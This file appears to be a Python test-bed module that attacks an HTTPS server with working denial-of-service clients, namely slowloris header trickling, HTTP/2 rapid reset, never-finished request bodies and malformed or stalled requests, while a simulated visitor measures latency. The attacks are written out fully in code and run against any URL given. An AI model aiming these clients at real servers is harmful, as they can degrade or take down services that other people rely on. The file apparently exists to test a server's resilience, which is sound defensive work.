"""Clients that attack an HTTPS site from one address, and the visitor who must not notice. For the test bed only.

    python3 -m tests.attack.clients unfinished --url https://site.test/api/auth/login --rate 85 --seconds 20

unfinished  requests whose bodies never come; `--http 1.1` on a connection each, `--http 2` on few connections
headers     HTTP/1.1 connections that send a header a second and never end (slowloris)
resets      HTTP/2 requests that are reset at once (rapid reset)
faults      requests that nobody can answer well: a broken chunk, a reset and an end in the body, a body that stalls
visit       a visitor: a page every 200 ms, on a connection that is kept and on fresh ones by turns

The program needs nothing but the standard library, so that it runs in any container that has Python. It trusts any
certificate, ends by itself after `--seconds`, and writes one JSON object.
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import json
import socket
import ssl
import struct
import time
from contextlib import suppress
from dataclasses import dataclass, field
from typing import ClassVar
from urllib.parse import urlsplit

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_STREAM, ACK, END_HEADERS = 1, 1, 4
SETTING_TABLE, SETTING_STREAMS = 1, 3
CONNECT_SECONDS, ANSWER_SECONDS = 10, 20
# An attacker who was cut off comes back, but does not spend his processor on nothing else.
PAUSE_SECONDS = 0.2
FAILURES = (OSError, asyncio.IncompleteReadError, TimeoutError)


@dataclass
class Tally:
    """What happened, as it is written at the end."""

    sent: int = 0
    connections: int = 0
    refused: collections.Counter[str] = field(default_factory=collections.Counter)
    answers: collections.Counter[str] = field(default_factory=collections.Counter)
    most_open: int = 0
    milliseconds: list[float] = field(default_factory=list)

    def text(self) -> str:
        said: dict[str, object] = {
            "sent": self.sent,
            "connections": self.connections,
            "refused": self.refused,
            "answers": self.answers,
            "most_open": self.most_open,
        }
        if times := sorted(self.milliseconds):
            said |= {
                "p50_ms": round(times[len(times) // 2], 1),
                "p99_ms": round(times[int(len(times) * 0.99)], 1),
                "max_ms": round(times[-1], 1),
            }
        return json.dumps(said)


@dataclass(frozen=True)
class Target:
    """Where to, and for how long."""

    host: str
    port: int
    path: str
    # Where the name leads, if that is not to be asked.
    address: str
    # The address of this machine that the connections come from; empty: what the kernel chooses.
    source: str
    until: float

    @property
    def over(self) -> bool:
        return time.monotonic() >= self.until

    async def connect(self, protocol: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols([protocol])
        opening = asyncio.open_connection(
            self.address or self.host,
            self.port,
            ssl=context,
            server_hostname=self.host,
            ssl_handshake_timeout=None,
            local_addr=(self.source, 0) if self.source else None,
        )
        return await asyncio.wait_for(opening, CONNECT_SECONDS)

    def head(self, method: str, *more: str) -> bytes:
        lines = [f"{method} {self.path} HTTP/1.1", f"Host: {self.host}", *more]
        return ("\r\n".join(lines) + "\r\n").encode()


# --- HTTP/2, as far as an attacker needs it ---


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: str, value: str) -> bytes:
    """Return a header as HPACK writes it without its tables: names and values here are shorter than 127 bytes."""
    return b"\x00" + b"".join(bytes([len(text)]) + text.encode() for text in (name, value))


def status_of(block: bytes) -> str:
    """Return the status that a header block begins with; only what servers really send is known."""
    # 8 to 14: those of the static table, whole or as the name of a literal.
    known = {0x88: "200", 0x89: "204", 0x8A: "206", 0x8B: "304", 0x8C: "400", 0x8D: "404", 0x8E: "500"}
    if not block:
        return "none"
    if block[0] & 0xE0 == 0x20:  # a new size for the table comes first
        return status_of(block[1:])
    if block[0] in known:
        return known[block[0]]
    if block[0] & 0x8F in range(0x08, 0x0F) and len(block) > 3:
        if not block[1] & 0x80:
            return block[2 : 2 + block[1]].decode(errors="replace")
        return huffman_digits(block[2 : 2 + (block[1] & 0x7F)])
    return "indexed"


def huffman_digits(coded: bytes) -> str:
    """Decode digits: 0, 1 and 2 have five bits in HPACK's code, the others six."""
    bits, said = "".join(f"{byte:08b}" for byte in coded), ""
    while len(said) < 3:
        if bits[:5] in ("00000", "00001", "00010"):
            said, bits = said + str(int(bits[:5], 2)), bits[5:]
        elif "011001" <= bits[:6] <= "011111":
            said, bits = said + str(int(bits[:6], 2) - 0b011001 + 3), bits[6:]
        else:
            return "indexed"
    return said


class Two:
    """One HTTP/2 connection that opens requests and never ends them."""

    SECONDS_TO_SETTINGS: ClassVar[float] = 5

    def __init__(self, target: Target, tally: Tally) -> None:
        self._target, self._tally = target, tally
        self._next = 1
        self.open: set[int] = set()
        self.streams = 100
        self.closed = True
        self._settled = asyncio.Event()

    async def start(self) -> None:
        self._reader, self._writer = await self._target.connect("h2")
        # No table for headers, so that each answer says its status itself.
        self._writer.write(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", SETTING_TABLE, 0)))
        self.closed = False
        self._tally.connections += 1
        self._listening = asyncio.create_task(self._listen())
        await asyncio.wait_for(self._settled.wait(), self.SECONDS_TO_SETTINGS)

    async def request(self, method: str, end: bool, reset: bool = False) -> None:
        target = self._target
        headers = {":method": method, ":scheme": "https", ":authority": target.host, ":path": target.path}
        if not end:
            headers |= {"content-type": "application/json", "content-length": "1000"}
        block = b"".join(literal(name, value) for name, value in headers.items())
        stream, self._next = self._next, self._next + 2
        words = frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)
        if reset:
            words += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        else:
            self.open.add(stream)
        self._writer.write(words)
        self._tally.sent += 1
        await self._writer.drain()

    def stop(self) -> None:
        self.closed = True
        self._listening.cancel()
        self._writer.close()

    async def _listen(self) -> None:
        try:
            while True:
                head = await self._reader.readexactly(9)
                kind, flags, stream = struct.unpack(">BBI", head[3:])
                self._heard(kind, flags, stream, await self._reader.readexactly(int.from_bytes(head[:3], "big")))
        except FAILURES:
            self._tally.refused["cut off"] += 1
        finally:
            self.closed = True
            self.open.clear()

    def _heard(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            for place in range(0, len(payload), 6):
                setting, value = struct.unpack(">HI", payload[place : place + 6])
                if setting == SETTING_STREAMS:
                    self.streams = value
            self._writer.write(frame(SETTINGS, ACK, 0))
            self._settled.set()
        elif kind == PING and not flags & ACK:
            self._writer.write(frame(PING, ACK, 0, payload))
        elif kind == HEADERS:
            self._tally.answers[status_of(payload)] += 1
        elif kind == RST_STREAM and stream in self.open:
            self._tally.refused["reset"] += 1
        elif kind == GOAWAY:
            self._tally.refused["goaway"] += 1
        if kind == RST_STREAM or (kind in (DATA, HEADERS) and flags & END_STREAM):
            self.open.discard(stream)


async def two(target: Target, tally: Tally, rate: float, reset: bool) -> None:
    """Hold one HTTP/2 connection, and open so many requests a second on it as long as it lets us."""
    while not target.over:
        connection = Two(target, tally)
        try:
            await connection.start()
            began, opened = time.monotonic(), 0
            while not target.over and not connection.closed:
                due = int((time.monotonic() - began) * rate) - opened
                for _ in range(due):
                    if reset or len(connection.open) < connection.streams:
                        await connection.request("GET" if reset else "POST", end=reset, reset=reset)
                opened += max(due, 0)
                tally.most_open = max(tally.most_open, len(connection.open))
                await asyncio.sleep(0.02)
        except FAILURES as error:
            tally.refused[type(error).__name__] += 1
        if not connection.closed:
            connection.stop()
        if not target.over:
            await asyncio.sleep(PAUSE_SECONDS)


# --- HTTP/1.1 ---


async def one(target: Target, tally: Tally, slow: bool) -> None:
    """Hold one HTTP/1.1 connection on which a body, or the end of the headers, never comes."""
    while not target.over:
        try:
            reader, writer = await target.connect("http/1.1")
        except FAILURES as error:
            tally.refused[type(error).__name__] += 1
            await asyncio.sleep(PAUSE_SECONDS)
            continue
        tally.connections += 1
        answer = asyncio.create_task(reader.readline())
        try:
            writer.write(target.head("GET") if slow else target.head("POST", "Content-Length: 1000", ""))
            tally.sent += 1
            while not target.over and not answer.done():
                if slow:
                    writer.write(b"X-Slow: 1\r\n")
                await asyncio.wait([answer], timeout=1)
            if answer.done():
                line = answer.result()
                tally.answers[line[9:12].decode(errors="replace") if line else "cut off"] += 1
        except FAILURES:
            tally.answers["cut off"] += 1
        finally:
            answer.cancel()
            writer.close()


FAULTS = ("chunk", "reset", "end", "stall")
STALLED_SECONDS = 40


async def fault(target: Target, tally: Tally, kind: str) -> None:
    """Send one request that goes wrong, and see what the answer is, if there is one."""
    try:
        reader, writer = await target.connect("http/1.1")
    except FAILURES as error:
        tally.refused[type(error).__name__] += 1
        return
    tally.connections += 1
    tally.sent += 1
    json_body = "Content-Type: application/json"
    try:
        if kind == "chunk":
            writer.write(target.head("POST", json_body, "Transfer-Encoding: chunked", "") + b"no number\r\n")
        else:
            writer.write(target.head("POST", json_body, "Content-Length: 1000", "") + b'{"email": ')
        await writer.drain()
        if kind == "reset":
            # No time to linger: the kernel sends a reset.
            writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            writer.transport.abort()
        elif kind == "end":
            writer.close()
        else:
            patience = min(STALLED_SECONDS, max(target.until - time.monotonic(), 1))
            line = await asyncio.wait_for(reader.readline(), patience)
            tally.answers[f"{kind} {line[9:12].decode(errors='replace') or 'cut off'}"] += 1
    except FAILURES as error:
        tally.answers[f"{kind} {type(error).__name__}"] += 1
    finally:
        writer.close()


async def faults(target: Target, tally: Tally, rate: float) -> None:
    """Begin so many faults a second, each kind by turns."""
    async with asyncio.TaskGroup() as begun:
        number = 0
        while not target.over:
            begun.create_task(fault(target, tally, FAULTS[number % len(FAULTS)]))
            number += 1
            await asyncio.sleep(1 / rate)


# --- A visitor ---


async def ask(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, target: Target) -> str:
    writer.write(target.head("GET", ""))
    status = (await reader.readline())[9:12].decode()
    length, chunked = 0, False
    while (line := await reader.readline()) not in (b"\r\n", b""):
        name, _, value = line.decode("latin-1").partition(":")
        length = int(value) if name.lower() == "content-length" else length
        chunked |= name.lower() == "transfer-encoding"
    await reader.readexactly(length)
    while chunked and (length := int(await reader.readline(), 16)) + 1:
        await reader.readexactly(length + 2)
        chunked = length > 0
    return status or "cut off"


async def visit(target: Target, tally: Tally) -> None:
    kept: tuple[asyncio.StreamReader, asyncio.StreamWriter] | None = None
    while not target.over:
        for fresh in (False, True):
            began = time.monotonic()
            tally.sent += 1
            try:
                if fresh or kept is None:
                    pair = await target.connect("http/1.1")
                    tally.connections += 1
                else:
                    pair = kept
                status = await asyncio.wait_for(ask(*pair, target), ANSWER_SECONDS)
                tally.answers[status] += 1
            except FAILURES as error:
                tally.answers[type(error).__name__] += 1
                kept = None
                continue
            tally.milliseconds.append((time.monotonic() - began) * 1000)
            if fresh:
                pair[1].close()
            else:
                kept = pair
            await asyncio.sleep(0.2)


async def run(options: argparse.Namespace) -> Tally:
    url, tally = urlsplit(options.url), Tally()
    until = time.monotonic() + options.seconds
    target = Target(url.hostname or "", url.port or 443, url.path or "/", options.address, options.source, until)
    if options.attack in ("visit", "faults"):
        options.connections = 1
    each = options.rate / options.connections
    clients = {
        "unfinished": lambda: two(target, tally, each, False) if options.http == "2" else one(target, tally, False),
        "headers": lambda: one(target, tally, True),
        "resets": lambda: two(target, tally, each, True),
        "faults": lambda: faults(target, tally, each),
        "visit": lambda: visit(target, tally),
    }
    with suppress(TimeoutError):
        async with asyncio.timeout(options.seconds + 2 * CONNECT_SECONDS):
            await asyncio.gather(*(clients[options.attack]() for _ in range(options.connections)))
    return tally


def main(words: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=["unfinished", "headers", "resets", "faults", "visit"])
    parser.add_argument("--url", required=True)
    parser.add_argument("--address", default="", help="where the name leads, if not to where DNS says")
    parser.add_argument("--source", default="", help="the address of this machine to connect from")
    parser.add_argument("--http", choices=["1.1", "2"], default="2")
    parser.add_argument("--connections", type=int, default=16)
    parser.add_argument("--rate", type=float, default=85, help="requests a second, over all connections of HTTP/2")
    parser.add_argument("--seconds", type=float, default=20)
    print(asyncio.run(run(parser.parse_args(words))).text())


if __name__ == "__main__":
    main()
